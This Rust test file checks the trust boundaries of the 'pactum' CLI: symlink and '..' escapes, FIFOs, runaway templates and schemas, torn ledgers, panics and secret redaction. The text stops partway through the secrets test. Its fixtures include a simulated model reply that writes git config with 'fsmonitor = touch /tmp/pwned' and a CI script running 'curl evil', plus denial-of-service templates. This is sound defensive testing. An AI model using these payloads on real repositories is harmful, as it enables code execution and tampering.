//! Trust boundaries (SPEC §18, issue 11), through the `pactum` binary: each class of
//! hostile input a pull request can carry — symlinks and `..`, special files, unbounded
//! templates and schemas, governance behind deep `$ref`s, torn ledgers, leaking secrets,
//! insecure configs, huge usage numbers, panics, concurrent writers — and the defence
//! against it. SECURITY.md names these tests.

use crate::exchange_harness as harness;

use crate::mock_http;

use std::path::Path;
use std::time::Duration;

use harness::{Out, Project, openai_env, read_records};
use mock_http::{MockReply, MockServer};
use serde_json::{Value, json};

/// A secret an attacker would like to see in a log.
const KEY: &str = "sk-trust-0123456789abcdefXYZ";

fn run(p: &Project, args: &[&str]) -> Out {
    p.pactum(args, &[])
}

fn base64(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for i in 0..=chunk.len() {
            out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
        for _ in chunk.len()..3 {
            out.push('=');
        }
    }
    out
}

/// Registers and promotes a contract and its pack from JSON values, pack first.
fn register(p: &Project, name: &str, contract: &Value, pack: &Value) {
    let pack_file = p.write_json(&format!("prompt_packs/{name}/1.0.0.json"), pack);
    let contract_file = p.write_json(&format!("contracts/{name}/1.0.0.json"), contract);
    let (pack_file, contract_file) =
        (pack_file.display().to_string(), contract_file.display().to_string());
    run(p, &["registry", "add", &pack_file, &contract_file]).status(0);
    for pin in [
        format!("{}@1.0.0", pack["prompt_pack_id"].as_str().unwrap()),
        format!("{}@1.0.0", contract["contract_id"].as_str().unwrap()),
    ] {
        run(p, &["registry", "promote", &pin]).status(0);
    }
}

#[cfg(unix)]
fn symlink(target: &Path, link: &Path) {
    std::fs::create_dir_all(link.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(target, link).unwrap();
}

#[cfg(unix)]
fn mkfifo(path: &Path) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    assert!(std::process::Command::new("mkfifo").arg(path).status().unwrap().success());
}

// --- A panic is never a success -------------------------------------------------------------

// The injection hook (`PACTUM_INJECT_PANIC`) is compiled into debug builds only, so this
// test is too; the panic handling it checks is the same code in release builds, and the
// library-level test below runs in both.
#[cfg(debug_assertions)]
#[test]
fn a_panic_anywhere_is_internal_error_and_exit_2() {
    let p = Project::new();
    p.copy_fixture("scripted/classify_ok.json", "wo/fx.json");
    let wo = p.classify_wo("WO-PANIC", json!({"provider": {"fixtures": "fx.json"}}));
    let wo = wo.display().to_string();
    for (place, args) in [
        ("validate-worker", vec!["validate", "--format", "json"]),
        ("run-worker", vec!["run", &wo, &wo, "--jobs", "2", "--json"]),
        ("main", vec!["resolve", "PRC-CLASSIFY-001", "--json"]),
    ] {
        let out = p.pactum(&args, &[("PACTUM_INJECT_PANIC", place.to_string())]);
        out.status(2);
        let doc = out.json();
        assert_eq!(doc["ok"], false, "{place}: {out}");
        assert_eq!(doc["code"], "internal_error", "{place}: {out}");
        assert!(!out.stdout.contains("\"ok\": true"), "{place}: no success is printed:\n{out}");
    }
    let out = p.pactum(&["validate"], &[("PACTUM_INJECT_PANIC", "validate-worker".into())]);
    out.status(2);
    assert!(out.stderr.contains("error[internal_error]"), "{out}");
    assert!(!out.stderr.contains("panicked at"), "the raw panic message is replaced:\n{out}");
}

/// A progress reporter that panics on every call after the first, whichever thread makes
/// it (a worker, or the calling thread counting registry.json while the workers run).
#[derive(Default)]
struct Exploding(std::sync::atomic::AtomicUsize);

impl pactum::validate::Progress for Exploding {
    fn start(&self, _: usize) {}
    fn advance(&self) {
        if self.0.fetch_add(1, std::sync::atomic::Ordering::Relaxed) > 0 {
            panic!("a worker panicked");
        }
    }
    fn finish(&self) {}
}

#[test]
fn a_panicking_validate_worker_is_an_internal_error_from_the_library_too() {
    let p = Project::new();
    let e = pactum::validate::validate(p.root(), &Default::default(), &Exploding::default())
        .unwrap_err();
    assert_eq!(e.code(), pactum::Code::InternalError, "{e}");
    assert!(e.to_string().contains("a worker panicked"), "{e}");
}

/// A progress reporter that panics when the calling thread itself advances it (counting
/// registry.json while the workers run).
struct ExplodingHere(std::thread::ThreadId);

impl pactum::validate::Progress for ExplodingHere {
    fn start(&self, _: usize) {}
    fn advance(&self) {
        if std::thread::current().id() == self.0 {
            panic!("the calling thread panicked");
        }
    }
    fn finish(&self) {}
}

#[test]
fn a_panic_beside_the_validate_workers_is_an_internal_error_too() {
    let p = Project::new();
    let progress = ExplodingHere(std::thread::current().id());
    let e = pactum::validate::validate(p.root(), &Default::default(), &progress).unwrap_err();
    assert_eq!(e.code(), pactum::Code::InternalError, "{e}");
    assert!(e.to_string().contains("the calling thread panicked"), "{e}");
}

#[test]
fn out_of_range_numbers_in_pactum_toml_are_findings_not_panics() {
    let p = Project::new();
    p.write("pactum.toml", "[defaults]\ntimeout_s = 1e300\n[retry]\nattempts = 0\nbase_delay_ms = -5\n[project]\ndeprecation_dayz = 1\n");
    let out = run(&p, &["validate", "--format", "json"]);
    out.status(1);
    let doc = out.json();
    let config: Vec<&Value> = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "config_invalid")
        .collect();
    let places: Vec<(String, u64, u64)> = config
        .iter()
        .map(|d| {
            (
                d["file"].as_str().unwrap().to_string(),
                d["line"].as_u64().unwrap(),
                d["column"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        places,
        [
            ("pactum.toml".to_string(), 2, 13),
            ("pactum.toml".to_string(), 4, 12),
            ("pactum.toml".to_string(), 5, 17),
            ("pactum.toml".to_string(), 7, 1)
        ],
        "every bad key, relative to the root, with line and column:\n{out}"
    );
    let out = run(&p, &["resolve", "PRC-CLASSIFY-001"]);
    out.status(1);
    assert!(
        out.stderr.contains("pactum.toml:2:13: `defaults.timeout_s` = 1e300 is out of range"),
        "{out}"
    );
}

// --- Confinement ----------------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn a_registered_file_with_a_symlink_to_it_in_the_project_is_still_registered() {
    let p = Project::new();
    let clean = run(&p, &["validate", "--format", "json"]).json();
    let unregistered = |doc: &Value| {
        doc["diagnostics"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|d| d["code"] == "contract_unregistered")
            .count()
    };
    assert_eq!(unregistered(&clean), 0, "{clean:#}");
    // A link beside a registered contract, sorting after it: both name the same real file.
    let contract = walkdir::WalkDir::new(p.path("contracts"))
        .sort_by_file_name()
        .into_iter()
        .flatten()
        .find(|e| e.file_type().is_file() && e.path().extension().is_some_and(|x| x == "json"))
        .expect("the project has a contract")
        .into_path();
    symlink(&contract, &contract.with_file_name("zz-alias.json"));
    let doc = run(&p, &["validate", "--format", "json"]).json();
    assert_eq!(unregistered(&doc), 0, "{doc:#}");
    assert_eq!(doc["summary"]["files"], clean["summary"]["files"].as_u64().unwrap() + 1);
}

#[cfg(unix)]
#[test]
fn symlinked_folders_are_reported_not_walked() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.json"), r#"{"contract_id": "SECRET-LINE-1"}"#)
        .unwrap();
    for folder in ["contracts", "work_orders"] {
        let p = Project::new();
        if p.path(folder).exists() {
            std::fs::remove_dir_all(p.path(folder)).unwrap();
        }
        symlink(outside.path(), &p.path(folder));
        let out = run(&p, &["validate", "--format", "json"]);
        out.status(1);
        assert!(!out.stdout.contains("SECRET-LINE-1"), "{folder}: outside content printed:\n{out}");
        let doc = out.json();
        let escape = doc["diagnostics"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["code"] == "path_escape" && d["file"] == folder);
        assert!(escape.is_some(), "{folder}: no path_escape for the folder:\n{out}");
    }
}

#[cfg(unix)]
#[test]
fn registry_lock_and_ledger_symlinks_are_refused_not_followed() {
    let outside = tempfile::tempdir().unwrap();
    // A registry.json that is a link to outside: never read.
    let p = Project::new();
    std::fs::rename(p.path("registry.json"), outside.path().join("registry.json")).unwrap();
    symlink(&outside.path().join("registry.json"), &p.path("registry.json"));
    let out = run(&p, &["resolve", "PRC-CLASSIFY-001", "--json"]);
    assert_eq!(out.json()["code"], "path_escape", "{out}");

    // A lock that is a link: registry writes refuse and change nothing.
    let p = Project::new();
    let victim = outside.path().join("victim");
    symlink(&victim, &p.path(".registry.lock"));
    let before = std::fs::read(p.path("registry.json")).unwrap();
    let file = p.write_json(
        "prompt_packs/x/1.0.0.json",
        &json!({"prompt_pack_id": "PRM-X-001", "version": "1.0.0", "template": "x"}),
    );
    let out = run(&p, &["registry", "add", &file.display().to_string(), "--json"]);
    assert_eq!(out.json()["code"], "path_escape", "{out}");
    assert!(!victim.exists(), "the lock link was followed");
    assert_eq!(std::fs::read(p.path("registry.json")).unwrap(), before);

    // A registry.json that is a link inside the project: read, but never replaced.
    let p = Project::new();
    std::fs::rename(p.path("registry.json"), p.path("real-registry.json")).unwrap();
    symlink(&p.path("real-registry.json"), &p.path("registry.json"));
    let file = p.write_json(
        "prompt_packs/x/1.0.0.json",
        &json!({"prompt_pack_id": "PRM-X-001", "version": "1.0.0", "template": "x"}),
    );
    let out = run(&p, &["registry", "add", &file.display().to_string(), "--json"]);
    assert_eq!(out.json()["code"], "path_escape", "{out}");
    assert!(std::fs::symlink_metadata(p.path("registry.json")).unwrap().file_type().is_symlink());

    // A committed `.pactum` that is a link: the run refuses before writing anything.
    let p = Project::new();
    p.copy_fixture("scripted/classify_ok.json", "wo/fx.json");
    let wo = p.classify_wo("WO-LINK", json!({"provider": {"fixtures": "fx.json"}}));
    symlink(outside.path(), &p.path(".pactum"));
    let out = run(&p, &["run", &wo.display().to_string(), "--json"]);
    assert_eq!(out.json()["code"], "path_escape", "{out}");
    assert!(!outside.path().join("ledger.jsonl").exists(), "the ledger was written outside");
}

#[cfg(unix)]
#[test]
fn reply_files_go_only_into_a_dedicated_output_area() {
    let outside = tempfile::tempdir().unwrap();
    let p = Project::new();
    p.register_report();
    p.write(".git/config", "[core]\n\tbare = false\n");
    p.write(".ci/run", "#!/bin/sh\necho ci\n");
    p.write("src/lib.rs", "// the team's code\n");
    let guarded = [".git/config", ".ci/run", "src/lib.rs", "registry.json"];
    let before: Vec<Vec<u8>> = guarded.iter().map(|f| std::fs::read(p.path(f)).unwrap()).collect();
    let hostile = json!({
        "../.git/config": "[core]\n\tfsmonitor = touch /tmp/pwned\n",
        ".git/config": "[core]\n\tfsmonitor = touch /tmp/pwned\n",
        "../.ci/run": "#!/bin/sh\ncurl evil\n",
        "../registry.json": "{}",
        "../src/lib.rs": "// replaced\n",
    });
    let run_wo = |id: &str, contract: &str, extra: Value, reply: Value| -> (Out, Value) {
        p.fixtures(&format!("{id}.fx.json"), json!([reply]));
        let input = if contract.starts_with("PRC-REPORT") {
            json!({"subject": "the outage", "audience": "engineers"})
        } else {
            json!({"user_input": "My login fails", "mode": "careful"})
        };
        let mut wo = json!({"work_order_id": id, "kind": "exchange", "contract": contract,
            "input": input, "provider": {"fixtures": format!("{id}.fx.json")}});
        harness::merge(&mut wo, extra);
        let wo = p.write_json(&format!("wo/{id}.json"), &wo);
        p.run_json(&wo, &[], &[])
    };
    let unchanged = |why: &str| {
        for (f, b) in guarded.iter().zip(&before) {
            assert_eq!(&std::fs::read(p.path(f)).unwrap(), b, "{f} changed: {why}");
        }
    };
    // A pack with no expected_outputs never writes a reply's files, whatever the output
    // folder and whichever way the files arrive (an envelope, or JSON in the text).
    let classify_text = "{\"label\": \"billing\", \"confidence\": 0.9}";
    for (id, reply) in [
        ("WO-NOEXP-ENV", json!({"envelope": {"text": classify_text, "files": hostile}})),
        (
            "WO-NOEXP-TXT",
            json!({"text": json!({"label": "billing", "confidence": 0.9, "files": hostile}).to_string()}),
        ),
    ] {
        let (out, r) = run_wo(id, "PRC-CLASSIFY-001", json!({"output_dir": ".."}), reply);
        unchanged(id);
        assert_eq!(r["files"].as_array().map_or(0, Vec::len), 0, "{out}");
    }
    // With expected_outputs, the output folder must be pactum's own: never the root (or
    // above), a hidden folder, a governed folder, or a folder pactum did not make; the run
    // stops before the model is called.
    let report = json!({"envelope": {"text": "{\"summary\": \"s\"}", "files": hostile}});
    for (id, dir) in [
        ("WO-ROOT", ".."),
        ("WO-ROOT-DOT", "../."),
        ("WO-GIT", "../.git"),
        ("WO-CI", "../.ci"),
        ("WO-PACTUM", "../.pactum"),
        ("WO-CONTRACTS", "../contracts"),
        ("WO-SRC", "../src"),
    ] {
        let (out, r) = run_wo(id, "PRC-REPORT-001@^1", json!({"output_dir": dir}), report.clone());
        out.status(1);
        assert_eq!(harness::first_code(&r), "output_dir_protected", "{id}: {r:#}");
        unchanged(id);
    }
    let (out, r) =
        run_wo("WO-UP", "PRC-REPORT-001@^1", json!({"output_dir": "../.."}), report.clone());
    out.status(1);
    assert_eq!(harness::first_code(&r), "path_escape", "{r:#}");
    // Inside the output area, a model's path may not climb out, be hidden, or land in an
    // exchange's context folder; the safe file is still written.
    let files = json!({"ok.md": "fine", "../../registry.json": "{}", ".git/config": "x",
        "PRC-REPORT-001@1.0.0/context/a.md": "forged", "notes/.env": "K=V"});
    let (_, r) = run_wo(
        "WO-INSIDE",
        "PRC-REPORT-001@^1",
        json!({}),
        json!({"envelope": {"text": "{\"summary\": \"s\"}", "files": files}}),
    );
    let codes: Vec<&str> =
        r["errors"].as_array().unwrap().iter().map(|e| e["code"].as_str().unwrap()).collect();
    assert_eq!(codes, ["path_escape"; 4], "{r:#}");
    let area = p.path("wo/out/WO-INSIDE");
    assert_eq!(std::fs::read_to_string(area.join("ok.md")).unwrap(), "fine");
    // The proof that pactum made it is a record under .pactum/, not a file in the folder.
    let names: Vec<String> = std::fs::read_dir(&area)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, ["ok.md"], "{names:?}");
    assert!(std::fs::read_dir(p.path(".pactum/outputs")).unwrap().count() > 0);
    assert!(!area.join(".git").exists() && !area.join("PRC-REPORT-001@1.0.0").exists());
    unchanged("WO-INSIDE");
    // An output folder that is a symlink to outside: nothing, not even a folder, is made.
    std::fs::create_dir_all(p.path("wo/out")).unwrap();
    symlink(outside.path(), &p.path("wo/out/WO-LINKED"));
    let (_, r) = run_wo(
        "WO-LINKED",
        "PRC-REPORT-001@^1",
        json!({}),
        json!({"envelope": {"text": "{\"summary\": \"s\"}", "files": {"deep/a.txt": "x"}}}),
    );
    assert_eq!(harness::first_code(&r), "path_escape", "{r:#}");
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0, "something was made outside");
    // A fresh folder of its own is fine, and a second run may write into it again.
    for _ in 0..2 {
        let (out, r) = run_wo(
            "WO-FINE",
            "PRC-REPORT-001@^1",
            json!({"output_dir": "../results"}),
            json!({"envelope": {"text": "{\"summary\": \"s\"}", "files": {"a/b.txt": "ok"}}}),
        );
        out.status(0);
        assert_eq!(std::fs::read_to_string(p.path("results/a/b.txt")).unwrap(), "ok", "{r:#}");
    }
    // `validate` names the work orders whose output folder a run would refuse.
    let out = run(&p, &["validate", &p.path("wo").display().to_string(), "--format", "json"]);
    let flagged: Vec<(String, String)> = out.json()["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "output_dir_protected")
        .map(|d| {
            (
                d["file"].as_str().unwrap().to_string(),
                d["pointer"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    for id in ["WO-ROOT", "WO-GIT", "WO-CI", "WO-CONTRACTS", "WO-SRC", "WO-NOEXP-ENV"] {
        assert!(
            flagged.contains(&(format!("wo/{id}.json"), "/output_dir".to_string())),
            "{id}: {flagged:?}"
        );
    }
    assert!(
        !flagged.iter().any(|(f, _)| f.contains("WO-FINE") || f.contains("WO-INSIDE")),
        "{flagged:?}"
    );
}

#[cfg(unix)]
#[test]
fn new_contract_never_writes_through_a_dangling_link() {
    let outside = tempfile::tempdir().unwrap();
    let p = Project::new();
    std::fs::create_dir_all(p.path("contracts/evil")).unwrap();
    symlink(&outside.path().join("planted.json"), &p.path("contracts/evil/1.0.0.json"));
    let out = run(&p, &["new", "contract", "PRC-EVIL-001", "--json"]);
    assert_eq!(out.json()["code"], "path_escape", "{out}");
    assert!(!outside.path().join("planted.json").exists(), "written through the link");
    assert!(!p.path("prompt_packs/evil/1.0.0.json").exists(), "an orphan pack was left");
}

// --- Special files and unreadable folders ---------------------------------------------------

#[cfg(unix)]
#[test]
fn fifos_are_refused_without_hanging() {
    let p = Project::new();
    mkfifo(&p.path("contracts/pipe/1.0.0.json"));
    let mut cmd = p.cmd();
    cmd.args(["validate", "--format", "json"]).timeout(Duration::from_secs(30));
    let out = Out::of(&mut cmd);
    out.status(1);
    let doc = out.json();
    let fifo = doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["file"] == "contracts/pipe/1.0.0.json");
    assert_eq!(fifo.map(|d| d["code"].clone()), Some(json!("io_error")), "{out}");
    assert!(out.stdout.contains("FIFO"), "{out}");

    // A FIFO in place of registry.json or pactum.toml: every command that reads it ends
    // (the timeout would fail the test) and names it; `registry verify` does not read
    // pactum.toml at all.
    let cases: [(&str, &[&str]); 3] = [
        ("registry.json", &["resolve", "PRC-CLASSIFY-001", "--json"]),
        ("registry.json", &["registry", "verify", "--json", "--root", "."]),
        ("pactum.toml", &["resolve", "PRC-CLASSIFY-001", "--json"]),
    ];
    for (name, args) in cases {
        let p = Project::new();
        let _ = std::fs::remove_file(p.path(name));
        mkfifo(&p.path(name));
        let mut cmd = p.cmd();
        cmd.args(args).timeout(Duration::from_secs(30));
        let out = Out::of(&mut cmd);
        assert_ne!(out.code, 0, "{name} {args:?}: {out}");
        assert!(out.stdout.contains("FIFO"), "{name} {args:?}: {out}");
    }
}

#[cfg(unix)]
#[test]
fn unreadable_folders_are_reported_not_skipped() {
    use std::os::unix::fs::PermissionsExt;
    let p = Project::new();
    let locked = p.path("contracts/locked");
    std::fs::create_dir_all(&locked).unwrap();
    std::fs::write(locked.join("1.0.0.json"), "{}").unwrap();
    // Root reads every folder whatever its mode (CI runs as root): then the check runs as
    // the unprivileged `nobody` (util-linux `setpriv`), on a tree that user may read.
    let root = unsafe { libc::geteuid() } == 0;
    if root {
        for entry in walkdir::WalkDir::new(p.root()) {
            let entry = entry.unwrap();
            let mode = if entry.file_type().is_dir() { 0o755 } else { 0o644 };
            std::fs::set_permissions(entry.path(), std::fs::Permissions::from_mode(mode)).unwrap();
        }
    }
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    let out = if root {
        let setpriv =
            crate::common::require_tool("setpriv", "running a check as a user who is not root");
        let bin = assert_cmd::cargo::cargo_bin("pactum");
        Out::from(
            std::process::Command::new(setpriv)
                .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
                .arg(&bin)
                .args(["validate", "--format", "json"])
                .current_dir(p.root())
                .env("NO_COLOR", "1")
                .output()
                .unwrap(),
        )
    } else {
        run(&p, &["validate", "--format", "json"])
    };
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o755)).unwrap();
    let doc = out.json();
    let found = doc["diagnostics"].as_array().unwrap().iter().any(|d| {
        d["code"] == "io_error"
            && d["file"].as_str().is_some_and(|f| f.starts_with("contracts/locked"))
    });
    assert!(found, "the unreadable folder must be a finding:\n{out}");
}

// --- Bounded cost ---------------------------------------------------------------------------

/// A contract of `name` whose pack is `template` and whose one example expects `ok`,
/// registered as drafts when `register` is set.
fn contract_with_template(
    p: &Project,
    name: &str,
    template: &str,
    output_schema: Value,
    register: bool,
) {
    let id = name.to_ascii_uppercase();
    let pack = json!({"prompt_pack_id": format!("PRM-{id}-001"), "version": "1.0.0", "template": template});
    let contract = json!({
        "contract_id": format!("PRC-{id}-001"), "version": "1.0.0",
        "prompt_pack_id": format!("PRM-{id}-001"), "prompt_pack_version": "1.0.0",
        "boundary": {"max_tokens": 16, "temperature": 0},
        "input_schema": {"type": "object", "properties": {"x": {"type": "string"}}},
        "output_schema": output_schema,
        "examples": [{"name": "runs", "input": {"x": "ab"}, "response": "{\"a\": \"b\"}", "expect": "ok"}]
    });
    let pack = p.write_json(&format!("prompt_packs/{name}/1.0.0.json"), &pack);
    let contract = p.write_json(&format!("contracts/{name}/1.0.0.json"), &contract);
    if register {
        let files = [pack, contract].map(|f| f.display().to_string());
        run(p, &["registry", "add", &files[0], &files[1]]).status(0);
    }
}

#[test]
fn template_values_are_bounded_even_from_validate() {
    let p = Project::new();
    let doubling = "{% set n = namespace(v=x) %}{% for i in range(60) %}{% set n.v = n.v ~ n.v %}{% endfor %}{{ n.v|length }}";
    contract_with_template(&p, "doubling", doubling, json!({"type": "object"}), true);
    let indent = "{{ ('a\\n' * 1000) | indent(100000000) }}";
    contract_with_template(&p, "indenting", indent, json!({"type": "object"}), true);
    contract_with_template(
        &p,
        "macro",
        "{% macro m() %}{{ x }}{% endmacro %}{{ m() }}",
        json!({"type": "object"}),
        false,
    );
    let mut cmd = p.cmd();
    cmd.args(["validate", "--format", "json"]).timeout(Duration::from_secs(60));
    let out = Out::of(&mut cmd);
    out.status(1);
    let doc = out.json();
    let diagnostics = doc["diagnostics"].as_array().unwrap();
    for name in ["doubling", "indenting"] {
        let d = diagnostics
            .iter()
            .find(|d| {
                d["file"] == format!("contracts/{name}/1.0.0.json") && d["code"] == "example_failed"
            })
            .unwrap_or_else(|| panic!("{name}: no failing example:\n{out}"));
        assert!(
            d["message"].as_str().unwrap().contains("template_limit_exceeded"),
            "{name}: {d:#}"
        );
    }
    assert!(
        diagnostics
            .iter()
            .any(|d| d["file"] == "prompt_packs/macro/1.0.0.json"
                && d["code"] == "prompt_pack_invalid"),
        "a macro is refused:\n{out}"
    );
}

#[test]
fn template_native_work_and_deep_nesting_are_bounded_even_from_validate() {
    let p = Project::new();
    // Each `in` is one instruction searching 2 MB natively: 100,000 of them were 200 GB
    // of work within the fuel. Charged by the size of its operands, the example stops.
    let searching = "{% set big = x * 1000000 %}{% for i in range(100000) %}{% if 'zz' in big %}{% endif %}{% endfor %}";
    contract_with_template(&p, "searching", searching, json!({"type": "object"}), true);
    let comparing = "{% set l = range(50000) | list %}{% for i in range(100000) %}{% if l == l %}{% endif %}{% endfor %}";
    contract_with_template(&p, "comparing", comparing, json!({"type": "object"}), true);
    // 100,000 `not`s overflowed the stack of the template parser, aborting the process.
    let nested = format!("{{{{ {}x }}}}", "not ".repeat(100_000));
    contract_with_template(&p, "nested", &nested, json!({"type": "object"}), false);
    let mut cmd = p.cmd();
    cmd.args(["validate", "--format", "json"]).timeout(Duration::from_secs(60));
    let out = Out::of(&mut cmd);
    out.status(1);
    let doc = out.json();
    let diagnostics = doc["diagnostics"].as_array().unwrap();
    for name in ["searching", "comparing"] {
        let d = diagnostics
            .iter()
            .find(|d| {
                d["file"] == format!("contracts/{name}/1.0.0.json") && d["code"] == "example_failed"
            })
            .unwrap_or_else(|| panic!("{name}: no failing example:\n{out}"));
        assert!(
            d["message"].as_str().unwrap().contains("template_limit_exceeded"),
            "{name}: {d:#}"
        );
    }
    let d = diagnostics
        .iter()
        .find(|d| {
            d["file"] == "prompt_packs/nested/1.0.0.json" && d["code"] == "prompt_pack_invalid"
        })
        .unwrap_or_else(|| panic!("the nested pack is refused:\n{out}"));
    assert!(d["message"].as_str().unwrap().contains("nests deeper than 100"), "{d:#}");
}

#[test]
fn exploding_schemas_are_refused_in_validate_and_in_run() {
    let p = Project::new();
    let mut defs = serde_json::Map::new();
    for i in 0..40 {
        let next = format!("#/$defs/d{}", i + 1);
        defs.insert(format!("d{i}"), json!({"anyOf": [{"$ref": next}, {"$ref": next}]}));
    }
    defs.insert("d40".into(), json!({"type": "object"}));
    let schema = json!({"$defs": defs, "$ref": "#/$defs/d0"});
    assert!(schema.to_string().len() < 4000);
    contract_with_template(&p, "explode", "{{ x }}", schema, false);
    let mut cmd = p.cmd();
    cmd.args(["validate", "--format", "json"]).timeout(Duration::from_secs(60));
    let out = Out::of(&mut cmd);
    let doc = out.json();
    assert!(
        doc["diagnostics"].as_array().unwrap().iter().any(|d| d["code"] == "schema_limit_exceeded"
            && d["file"] == "contracts/explode/1.0.0.json"
            && d["pointer"] == "/output_schema"),
        "{out}"
    );
    // Registered anyway (drafts may be anything): a run refuses it before any call.
    let files = ["prompt_packs/explode/1.0.0.json", "contracts/explode/1.0.0.json"]
        .map(|f| p.path(f).display().to_string());
    run(&p, &["registry", "add", &files[0], &files[1]]).status(0);
    let mut cmd = p.cmd();
    cmd.args(["render", "PRC-EXPLODE-001", "--allow-draft", "--input", "-", "--json"])
        .write_stdin(r#"{"x": "a"}"#)
        .timeout(Duration::from_secs(60));
    let out = Out::of(&mut cmd);
    assert_eq!(out.json()["code"], "schema_limit_exceeded", "{out}");
}

// --- Governance -----------------------------------------------------------------------------

#[test]
fn promote_refuses_a_breaking_change_behind_a_deep_ref_chain() {
    let p = Project::new();
    let chain = |leaf: &str| {
        let mut defs = serde_json::Map::new();
        for i in 0..100 {
            let next = if i == 99 {
                json!({"type": leaf})
            } else {
                json!({"$ref": format!("#/$defs/d{}", i + 1)})
            };
            defs.insert(format!("d{i}"), next);
        }
        json!({"type": "object", "properties": {"v": {"$ref": "#/$defs/d0"}}, "$defs": defs})
    };
    let pack = json!({"prompt_pack_id": "PRM-DEEP-001", "version": "1.0.0", "template": "{{ x }}"});
    let contract = |version: &str, leaf: &str| {
        json!({
        "contract_id": "PRC-DEEP-001", "version": version, "prompt_pack_id": "PRM-DEEP-001",
        "prompt_pack_version": "1.0.0", "boundary": {"max_tokens": 16, "temperature": 0},
        "input_schema": {"type": "object", "properties": {"x": {"type": "string"}}},
        "output_schema": chain(leaf)})
    };
    register(&p, "deep", &contract("1.0.0", "string"), &pack);
    let patch = p.write_json("contracts/deep/1.0.1.json", &contract("1.0.1", "integer"));
    run(&p, &["registry", "add", &patch.display().to_string()]).status(0);
    let out = run(&p, &["registry", "promote", "PRC-DEEP-001@1.0.1", "--json"]);
    out.status(1);
    assert_eq!(out.json()["code"], "incompatible_version_bump", "{out}");
}

// --- The ledger -----------------------------------------------------------------------------

#[test]
fn a_torn_ledger_line_stops_the_next_run_before_anything_is_joined() {
    let p = Project::new();
    p.copy_fixture("scripted/classify_ok.json", "wo/fx.json");
    let wo = p.classify_wo("WO-TORN", json!({"provider": {"fixtures": "fx.json"}}));
    let wo = wo.display().to_string();
    p.run(&[Path::new(&wo)], &["--json"], &[]).status(0);
    let mut torn = std::fs::read(p.ledger()).unwrap();
    let lines = torn.iter().filter(|b| **b == b'\n').count();
    torn.extend_from_slice(b"{\"seq\":99,\"kind\":\"exch");
    std::fs::write(p.ledger(), &torn).unwrap();

    let out = p.run(&[Path::new(&wo)], &["--json"], &[]);
    let doc = out.json();
    assert_ne!(out.code, 0, "{out}");
    let text = doc.to_string();
    assert!(text.contains("ledger_corrupt"), "{out}");
    assert!(text.contains(&format!(":{}:", lines + 1)), "the torn line is named:\n{out}");
    assert_eq!(std::fs::read(p.ledger()).unwrap(), torn, "nothing was appended");
    let out = run(&p, &["ledger", "verify", &p.ledger().display().to_string(), "--json"]);
    assert_eq!(out.json()["code"], "ledger_corrupt", "{out}");
}

#[cfg(unix)]
#[test]
fn a_failed_ledger_write_leaves_the_ledger_as_it_was() {
    use std::os::unix::process::CommandExt;
    let p = Project::new();
    p.copy_fixture("scripted/classify_ok.json", "wo/fx.json");
    let wo = p.classify_wo("WO-FULL", json!({"provider": {"fixtures": "fx.json"}}));
    let wo = wo.display().to_string();
    p.run(&[Path::new(&wo)], &["--json"], &[]).status(0);
    let before = std::fs::read(p.ledger()).unwrap();
    // The disk is "full" 100 bytes past the ledger's end (RLIMIT_FSIZE; SIGXFSZ ignored so
    // the write fails with EFBIG instead of killing the process).
    let limit = before.len() as u64 + 100;
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("pactum"));
    cmd.current_dir(p.root())
        .args(["run", &wo, "--ledger", &p.ledger().display().to_string(), "--json"])
        .env("NO_COLOR", "1");
    unsafe {
        cmd.pre_exec(move || {
            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            let rl = libc::rlimit { rlim_cur: limit, rlim_max: limit };
            if libc::setrlimit(libc::RLIMIT_FSIZE, &rl) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = Out::from(cmd.output().unwrap());
    assert_ne!(out.code, 0, "the run cannot succeed without its ledger:\n{out}");
    let after = std::fs::read(p.ledger()).unwrap();
    assert_eq!(after, before, "a cut line was left behind:\n{out}");
    // The next run appends as if nothing happened.
    p.run(&[Path::new(&wo)], &["--json"], &[]).status(0);
    run(&p, &["ledger", "verify", &p.ledger().display().to_string()]).status(0);
}

// --- Secrets --------------------------------------------------------------------------------

#[test]
fn keys_and_url_credentials_never_reach_output_or_ledger_in_any_encoding() {
    let p = Project::new();
    let b64 = base64(format!("Authorization: Bearer {KEY}").as_bytes());
    let url_encoded = KEY.replace('-', "%2D");
    let echo = format!("bad key {KEY}; as sent: {b64}; in the query: {url_encoded}");
    let server =
        MockServer::start(vec![MockReply::json(401, &json!({"error": {"message": echo}}))]);
    let url = server.url().replacen("http://", "http://admin:hunter2hunter2@", 1);
    let wo = p.classify_wo("WO-LEAK", json!({}));
    let mut outs = Vec::new();
    for args in [vec!["--provider", "openai", "--json"], vec!["--provider", "openai"]] {
        outs.push(p.run(&[wo.as_path()], &args, &openai_env(&url, KEY)));
    }
    let ledger = std::fs::read_to_string(p.ledger()).unwrap();
    for text in
